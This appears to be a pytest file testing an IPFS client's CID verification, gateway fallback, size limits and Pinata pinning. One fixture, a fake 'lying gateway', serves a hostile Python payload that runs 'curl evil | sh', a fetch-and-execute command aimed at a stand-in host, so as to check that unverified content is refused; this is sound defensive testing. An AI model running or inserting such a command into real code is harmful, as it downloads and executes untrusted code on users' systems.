"""The IPFS client against the local IPFS endpoint (real HTTP on loopback): files added and
fetched by CID, every fetched file checked against its CID — a gateway that serves other bytes
is refused and the next source used — and results pinned through Pinata's API."""

from __future__ import annotations

import json

import pytest
import trio
from hypercorn.config import Config
from hypercorn.trio import serve
from multiformats import CID
from starlette.applications import Starlette
from starlette.responses import Response
from starlette.routing import Route

from engine.devnets.ipfs import IpfsDevnet
from engine.ipfs import IpfsClient, IpfsError, cid_of

CODE = b'import sys\nprint("hello from ipfs", sys.argv[1:])\n'


async def lying_gateway(*, task_status: trio.TaskStatus[str] = trio.TASK_STATUS_IGNORED) -> None:
    """A gateway that answers every CID with code of its own."""
    async def any_cid(request) -> Response:  # type: ignore[no-untyped-def]
        return Response(b'import os\nos.system("curl evil | sh")\n')

    config = Config()
    config.bind = ["127.0.0.1:0"]
    config.accesslog = None
    async with trio.open_nursery() as nursery:
        binds = await nursery.start(serve, Starlette(routes=[Route("/ipfs/{cid}", any_cid)]), config)
        task_status.started(binds[0])


@pytest.mark.trio
async def test_files_round_trip_and_are_checked_against_their_cid() -> None:
    node = IpfsDevnet(pinata_jwt="jwt-for-tests")
    async with trio.open_nursery() as nursery:
        url = await nursery.start(node.run)
        liar = await nursery.start(lying_gateway)
        client = IpfsClient(api=url, gateways=[url], pinata=url, pinata_jwt="jwt-for-tests")
        cid = await client.add(CODE, "job.py")
        assert cid == cid_of(CODE) and cid.startswith("Qm")
        assert await client.fetch(cid) == CODE
        v1 = str(CID.decode(cid).set(version=1, base="base32"))
        assert await client.fetch(v1) == CODE  # the same file under its v1 name

        # a lying gateway first: refused, and the honest one serves the file
        careful = IpfsClient(gateways=[liar, url])
        assert await careful.fetch(cid) == CODE
        async with IpfsClient(gateways=[liar]) as only_liar:
            with pytest.raises(IpfsError, match="that are not .* \\(refused\\)") as lied:
                await only_liar.fetch(cid)
            assert lied.value.refused
        async with IpfsClient(api=url) as api_only:
            with pytest.raises(IpfsError, match="block was not found locally") as missing:
                await api_only.fetch(cid_of(b"never added"))
            assert not missing.value.refused  # unreachable, not unverifiable: worth a retry
        async with IpfsClient(gateways=[url], max_bytes=10) as small:
            with pytest.raises(IpfsError, match="over the 10-byte limit") as too_big:
                await small.fetch(cid)
            assert too_big.value.refused

        result = {"stdout": "hello\n", "stderr": "", "returncode": 0, "executed_at": "2026-12-01T00:00:00Z"}
        pinned = await client.pin_json(result, "result-job1")
        assert json.loads(await client.fetch(pinned)) == result and pinned in node.pins
        async with IpfsClient(pinata=url, pinata_jwt="wrong") as wrong:
            with pytest.raises(IpfsError, match="HTTP 401"):
                await wrong.pin_json(result, "x")
        for c in (client, careful):
            await c.aclose()
        nursery.cancel_scope.cancel()


def test_the_ipfs_devnet_command_serves_and_keeps_its_token_out_of_the_output(tmp_path) -> None:  # type: ignore[no-untyped-def]
    import subprocess
    import sys
    import time

    import httpx

    from engine.ports import free_port

    port = free_port()
    jwt_file = tmp_path / "pinata.jwt"
    proc = subprocess.Popen([sys.executable, "-m", "engine", "ipfs", "devnet", "--port", str(port), "--jwt-file",
                             str(jwt_file)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        deadline = time.monotonic() + 20
        while True:
            try:
                answer = httpx.post(f"http://127.0.0.1:{port}/api/v0/add", files={"file": ("a.py", CODE)})
                break
            except httpx.TransportError:
                assert time.monotonic() < deadline and proc.poll() is None, "the devnet did not start"
                time.sleep(0.1)
        assert json.loads(answer.text)["Hash"] == cid_of(CODE)
        assert httpx.get(f"http://127.0.0.1:{port}/ipfs/{cid_of(CODE)}").content == CODE
        jwt = jwt_file.read_text().strip()
        assert jwt and oct(jwt_file.stat().st_mode & 0o777) == "0o600"
        pinned = httpx.post(f"http://127.0.0.1:{port}/pinning/pinJSONToIPFS", json={"pinataContent": {"a": 1}},
                            headers={"authorization": f"Bearer {jwt}"})
        assert pinned.json()["IpfsHash"] == cid_of(b'{"a":1}')
    finally:
        proc.terminate()
        out, _ = proc.communicate(timeout=10)
    assert "not an IPFS node" in out and jwt not in out
